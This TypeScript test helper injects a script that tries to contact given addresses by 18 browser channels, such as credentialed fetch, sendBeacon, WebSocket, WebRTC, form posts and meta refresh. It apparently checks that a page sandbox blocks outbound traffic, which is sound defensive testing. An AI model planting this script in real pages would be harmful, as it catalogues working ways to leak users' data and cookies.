import { raw, type Markup } from '../http/html';

/** What a page can try without anybody's click, by the word that stands in the address that is reached. */
export const HOSTILE_WAYS = [
  ...['fetch', 'image', 'beacon', 'worker', 'websocket', 'eventsource', 'popup', 'iframe', 'download', 'script'],
  ...['stylesheet', 'form', 'prefetch', 'preconnect', 'video', 'ping', 'webrtc', 'refresh'],
] as const;

/**
 * Tries to reach each address by every way there is, at `/<way>` there. `window.tried` counts what was begun, so that a test
 * can tell a page that tried and failed from one that did not try.
 */
export function hostile(to: readonly string[]): Markup {
  return raw(
    `<div id="hostile-ground"></div><script>(${attack.toString()})(${JSON.stringify(to).replaceAll('<', '\\u003c')});</script>`,
  );
}

// Runs in the page; the program is compiled without the types of one.
function attack(to: string[]): void {
  const page = globalThis as unknown as Record<string, any>;
  const { document } = page;
  page['tried'] = 0;
  const put = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const attempt = (run: () => unknown) => {
    page['tried'] += 1;
    try {
      void Promise.resolve(run()).catch(() => undefined);
    } catch {
      // It is for the test to see what came of it.
    }
  };
  for (const base of to) {
    const at = (way: string) => `${base}/${way}`;
    attempt(() => fetch(at('fetch'), { mode: 'no-cors', credentials: 'include' }));
    attempt(() => (new page['Image']().src = at('image')));
    attempt(() => page['navigator'].sendBeacon(at('beacon'), 'what it knows'));
    attempt(() => {
      const source = `fetch(${JSON.stringify(at('worker'))}, { mode: 'no-cors' })`;
      return new page['Worker'](URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
    });
    attempt(() => new page['WebSocket'](at('websocket').replace(/^http/, 'ws')));
    attempt(() => new page['EventSource'](at('eventsource')));
    attempt(() => page['open'](at('popup'), '_blank'));
    attempt(() => put('iframe', { src: at('iframe') }));
    attempt(() => put('a', { href: at('download'), download: 'what.bin' }).click());
    attempt(() => put('script', { src: at('script') }));
    attempt(() => put('link', { rel: 'stylesheet', href: at('stylesheet') }));
    attempt(() => {
      put('iframe', { name: 'aside' });
      put('form', { action: at('form'), method: 'post', target: 'aside' }).submit();
    });
    attempt(() => put('link', { rel: 'prefetch', href: at('prefetch') }));
    attempt(() => put('link', { rel: 'preconnect', href: at('preconnect') }));
    attempt(() => put('video', { src: at('video'), autoplay: '' }));
    attempt(() => put('a', { href: '#', ping: at('ping') }).click());
    attempt(async () => {
      const peer = new page['RTCPeerConnection']({ iceServers: [{ urls: `stun:${new URL(base).host}` }] });
      peer.createDataChannel('out');
      await peer.setLocalDescription(await peer.createOffer());
    });
    attempt(() => {
      const inner = put('iframe', { srcdoc: `<meta http-equiv="refresh" content="0;url=${at('refresh')}">` });
      return inner;
    });
  }
}
